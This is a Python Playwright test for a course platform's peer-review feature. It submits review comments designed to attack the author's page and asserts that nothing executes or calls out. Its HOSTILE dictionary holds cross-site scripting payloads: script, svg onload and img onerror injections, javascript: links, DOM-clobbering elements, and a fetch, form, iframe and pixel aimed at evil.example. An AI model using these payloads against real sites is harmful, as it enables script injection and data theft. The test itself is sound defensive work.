"""Peer review in a real browser (Playwright driving Debian's Chromium): review texts written to
attack the author's page (a reviewer's whole path is in test_journeys.py)."""

from __future__ import annotations

import time

import pytest
from playwright.sync_api import expect

from decoder import origins, protocol
from decoder.peer.store import PeerStore
from tests import lab
from tests.browsers import log_in_to_lab as log_in
from tests.browsers import new_page
from tests.pages import Pages, ask, give, give_what_is_owed, submit

pytestmark = [pytest.mark.docker, pytest.mark.browser]

PEER = "s1-algorithme-du-quotidien"


def graded(platform, submission: int, seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while lab.store(platform).submission(submission)["state"] not in ("done", "failed"):
        assert time.monotonic() < deadline, "not graded in time"
        time.sleep(0.5)


def hold_the_review_of(platform, reviewer: Pages, submission: int) -> int:
    """Ask for work until the hold is ``submission``'s, reviewing what comes before it (the
    pool is the class's: older submissions may need reviews first)."""
    store = PeerStore(lab.store(platform).engine)
    for _ in range(20):
        review = ask(reviewer, PEER)
        if store.review(review)["submission_id"] == submission:
            return review
        assert give(reviewer, PEER, review, [2, 2, 2]).status_code == 200
    raise AssertionError("never got the submission to review")


HOSTILE = {
    "comment": "Super ! <script>window.__pwned = 1; fetch('https://evil.example/s')</script>\n\n"
               "<svg onload=\"window.__pwned = 2\"></svg> <img src=x onerror=\"window.__pwned=3\">"
               "\n\n[clique ici](javascript:window.__pwned=4) "
               "<a href=\"javascript:window.__pwned=5\">ou là</a>\n\n"
               "<form action=\"https://evil.example/f\"><input name=q value=vole></form>"
               "<iframe src=\"https://evil.example/i\"></iframe>\n\n"
               "![pixel](https://evil.example/pixel.png) <style>body{display:none}</style>",
    "cells": {"0": "<a id=\"peer_service\" name=\"forms\" href=\"https://evil.example\">x</a>",
              "1": "<div id=\"score\" onclick=\"window.__pwned=6\">clic</div>"},
}


def test_hostile_review_texts_run_nothing_and_reach_nowhere(platform, browser):
    author, reviewer = platform.signed_up("wanda"), platform.signed_up("xavier")
    submission = submit(platform, author, PEER)
    review = hold_the_review_of(platform, Pages(reviewer), submission)
    sent = give(Pages(reviewer), PEER, review, [1, 1, 1], HOSTILE["comment"], HOSTILE["cells"])
    assert sent.status_code == 200
    give_what_is_owed(Pages(author), PEER, [2, 2, 2])

    page = new_page(browser)
    log_in(page, platform, author)
    dialogs, requests_made = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests_made.append(request.url))
    response = page.goto(f"{platform.url}/services/course/peer/{PEER}/received")
    assert "script-src" not in response.headers["content-security-policy"] and \
        "default-src 'none'" in response.headers["content-security-policy"]
    expect(page.locator("body")).to_contain_text("Super !")
    for link in page.locator("a").all():  # follow every link a learner could click
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith(("javascript:", "data:")), href
    page.locator("text=clic").first.click()
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.__pwned") is None
    assert page.evaluate("() => document.getElementById('peer_service')") is None
    # only the rating forms, one per review; nothing active, nothing of the attacker's
    assert page.evaluate("() => document.forms.length") == page.locator("section.review").count()
    assert page.evaluate("() => document.querySelectorAll('script, iframe, img, svg, input[name=q]"
                         ", [onerror], [onload], [onclick]').length") == 0
    assert page.evaluate("() => document.querySelectorAll('style').length") == 1
    assert dialogs == []
    ours = (platform.url, origins.origin_of(platform.url, protocol.SERVICE, "service"),
            origins.origin_of(platform.url, author.name))  # (their JupyterLab, closing)
    assert all(url.startswith(ours) for url in requests_made), requests_made
    assert not any("evil.example" in url for url in requests_made)
